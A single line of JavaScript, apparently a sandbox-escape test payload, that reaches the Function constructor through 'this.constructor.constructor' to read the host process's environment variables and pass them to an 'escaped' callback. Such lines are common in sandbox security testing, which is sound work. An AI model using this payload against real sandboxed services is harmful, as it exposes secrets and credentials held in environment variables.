setTimeout(function () { escaped('callback', this?.constructor?.constructor('return globalThis.process?.env')()); }, 0);
